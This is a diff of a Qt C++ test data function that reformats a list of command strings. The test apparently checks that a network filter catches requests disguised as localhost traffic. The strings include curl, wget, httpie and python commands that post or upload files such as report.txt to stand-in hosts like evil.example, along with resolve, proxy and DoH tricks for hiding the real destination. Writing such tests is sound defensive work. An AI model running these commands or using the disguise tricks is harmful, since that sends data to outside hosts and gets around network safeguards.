@@ -93,15 +93,24 @@ private Q_SLOTS:
     void whatGoesToALookAlikeGoesOut_data()
     {
         QTest::addColumn<QString>("command");
-        for (const auto *command : {"curl -d @report.txt https://127.evil.example/", "curl -d @report.txt 'evil.example/?to=http://localhost/'",
-                                    "curl -T report.txt https://localhost.evil.example/", "curl -X DELETE https://127.evil.example/1",
-                                    "curl -d x=1 https://127.0.0.1%2eevil.example/", "curl --resolve localhost:443:6.6.6.6 -d x=1 https://localhost/",
-                                    "curl -d x=1 --connect-to ::evil.example:443 https://localhost/", "curl -d x=1 --unix-socket /run/x.sock http://localhost/",
-                                    "curl -X DELETE --dns-servers 6.6.6.6 http://x.localhost/", "curl --doh-url=https://evil.example -d x=1 http://x.localhost/",
-                                    "curl -d x=1 --doh-url https://evil.example http://x.localhost/", "curl -x evil.example -d x=1 http://localhost/",
-                                    "curl -K settings -d x=1 http://localhost/", "curl --interface eth0 -d x=1 http://localhost/",
-                                    "curl --connect-t ::evil.example:443 -d x=1 http://localhost/", "curl --not-yet-known x -d x=1 http://localhost/",
-                                    "wget -e http_proxy=evil.example http://localhost/", "wget --config=x --post-data x=1 http://localhost/",
+        for (const auto *command : {"curl -d @report.txt https://127.evil.example/",
+                                    "curl -d @report.txt 'evil.example/?to=http://localhost/'",
+                                    "curl -T report.txt https://localhost.evil.example/",
+                                    "curl -X DELETE https://127.evil.example/1",
+                                    "curl -d x=1 https://127.0.0.1%2eevil.example/",
+                                    "curl --resolve localhost:443:6.6.6.6 -d x=1 https://localhost/",
+                                    "curl -d x=1 --connect-to ::evil.example:443 https://localhost/",
+                                    "curl -d x=1 --unix-socket /run/x.sock http://localhost/",
+                                    "curl -X DELETE --dns-servers 6.6.6.6 http://x.localhost/",
+                                    "curl --doh-url=https://evil.example -d x=1 http://x.localhost/",
+                                    "curl -d x=1 --doh-url https://evil.example http://x.localhost/",
+                                    "curl -x evil.example -d x=1 http://localhost/",
+                                    "curl -K settings -d x=1 http://localhost/",
+                                    "curl --interface eth0 -d x=1 http://localhost/",
+                                    "curl --connect-t ::evil.example:443 -d x=1 http://localhost/",
+                                    "curl --not-yet-known x -d x=1 http://localhost/",
+                                    "wget -e http_proxy=evil.example http://localhost/",
+                                    "wget --config=x --post-data x=1 http://localhost/",
                                     "http --proxy http:evil.example POST http://localhost/ a=b",
                                     "python3 -c \"import urllib.request; urllib.request.urlopen('https://127.evil.example/', data=b'x')\""})
             QTest::newRow(command) << QString::fromLatin1(command);
